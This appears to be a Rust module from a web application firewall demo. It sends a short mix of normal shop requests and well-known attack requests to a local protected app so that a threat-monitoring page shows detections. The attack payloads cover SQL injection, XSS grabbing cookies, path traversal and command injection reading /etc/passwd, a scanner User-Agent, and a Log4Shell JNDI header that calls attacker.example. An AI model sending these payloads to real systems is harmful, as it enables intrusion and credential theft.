//! `palisade up --traffic`: one pass of a fixed, short mix of ordinary
//! requests to the demo shop and well-known attacks (SQL injection, XSS,
//! path traversal, command injection, Log4Shell, a scanner), sent through
//! the protected app so the Threat Monitoring page has something to show.
//! Each attack is one that CRS at paranoia level 1 scores at or over the
//! default inbound threshold; each benign request is one it does not score.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use super::client;

/// A browser-like User-Agent and Accept, so benign requests look ordinary.
const UA: &str = "Mozilla/5.0 (X11; Linux x86_64) palisade-demo-traffic";
const ACCEPT: &str = "text/html,application/json;q=0.9,*/*;q=0.8";
const FORM: &str = "application/x-www-form-urlencoded";

struct Req {
    method: &'static str,
    target: &'static str,
    /// Extra headers; a `User-Agent` here replaces the default one.
    headers: &'static [(&'static str, &'static str)],
    body: &'static str,
    /// What the attack is; `None` for a benign request.
    attack: Option<&'static str>,
}

const fn get(target: &'static str) -> Req {
    Req {
        method: "GET",
        target,
        headers: &[],
        body: "",
        attack: None,
    }
}

const fn attack(target: &'static str, what: &'static str) -> Req {
    Req {
        method: "GET",
        target,
        headers: &[],
        body: "",
        attack: Some(what),
    }
}

/// The mix, in sending order (attacks spread among ordinary requests).
const MIX: &[Req] = &[
    get("/"),
    get("/search?q=garden+chair"),
    get("/products?id=1"),
    attack("/products?id=1'%20OR%201=1--", "SQL injection"),
    get("/products?id=2"),
    Req {
        method: "POST",
        target: "/login",
        headers: &[("Content-Type", FORM)],
        body: "user=demo&password=demo",
        attack: None,
    },
    attack(
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "XSS",
    ),
    get("/products?id=3"),
    get("/search?q=folding+table"),
    attack("/search?q=../../../../etc/passwd", "path traversal"),
    get("/products?id=4"),
    Req {
        method: "POST",
        target: "/login",
        headers: &[("Content-Type", FORM)],
        body: "user=alice&password=wrong",
        attack: None,
    },
    attack("/search?q=%3Bcat%20/etc/passwd", "command injection"),
    get("/products?id=5"),
    Req {
        method: "GET",
        target: "/",
        headers: &[("X-Api-Version", "${jndi:ldap://attacker.example/a}")],
        body: "",
        attack: Some("Log4Shell"),
    },
    get("/search?q=lanterns+for+the+garden"),
    attack(
        "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        "SQL injection (UNION)",
    ),
    get("/products?id=9"),
    Req {
        method: "GET",
        target: "/",
        headers: &[(
            "User-Agent",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        )],
        body: "",
        attack: Some("scanner"),
    },
    get("/healthz"),
    Req {
        method: "POST",
        target: "/login",
        headers: &[("Content-Type", FORM)],
        body: "user=admin%27%20OR%20%271%27%3D%271&password=x",
        attack: Some("SQL injection (form)"),
    },
    get("/"),
];

/// What was sent and how it was answered.
#[derive(Debug, Default)]
pub struct Sent {
    pub benign: usize,
    pub attacks: usize,
    /// Status → count, per kind.
    pub benign_status: BTreeMap<u16, usize>,
    pub attack_status: BTreeMap<u16, usize>,
    /// Requests that got no answer (one line each).
    pub errors: Vec<String>,
}

impl Sent {
    pub fn total(&self) -> usize {
        self.benign + self.attacks
    }
}

pub fn statuses(m: &BTreeMap<u16, usize>) -> String {
    let parts: Vec<String> = m.iter().map(|(s, n)| format!("{s} x{n}")).collect();
    if parts.is_empty() {
        "none".into()
    } else {
        parts.join(", ")
    }
}

/// Sends the mix once through `app` (Host `host`), stopping early if
/// `stop` is set.
pub fn send(app: SocketAddr, host: &str, stop: &AtomicBool) -> Sent {
    let mut sent = Sent::default();
    for r in MIX {
        if stop.load(Ordering::SeqCst) {
            break;
        }
        let mut headers: Vec<(&str, &str)> = vec![("Accept", ACCEPT)];
        if !r
            .headers
            .iter()
            .any(|(k, _)| k.eq_ignore_ascii_case("user-agent"))
        {
            headers.push(("User-Agent", UA));
        }
        headers.extend_from_slice(r.headers);
        let answer = client::request(app, r.method, r.target, host, &headers, r.body.as_bytes());
        let (count, statuses) = match r.attack {
            Some(_) => (&mut sent.attacks, &mut sent.attack_status),
            None => (&mut sent.benign, &mut sent.benign_status),
        };
        *count += 1;
        match answer {
            Ok(a) => *statuses.entry(a.status).or_default() += 1,
            Err(e) => sent.errors.push(e),
        }
        std::thread::sleep(Duration::from_millis(40));
    }
    sent
}

/// The attacks in the mix, for the progress line.
pub fn attack_names() -> Vec<&'static str> {
    MIX.iter().filter_map(|r| r.attack).collect()
}
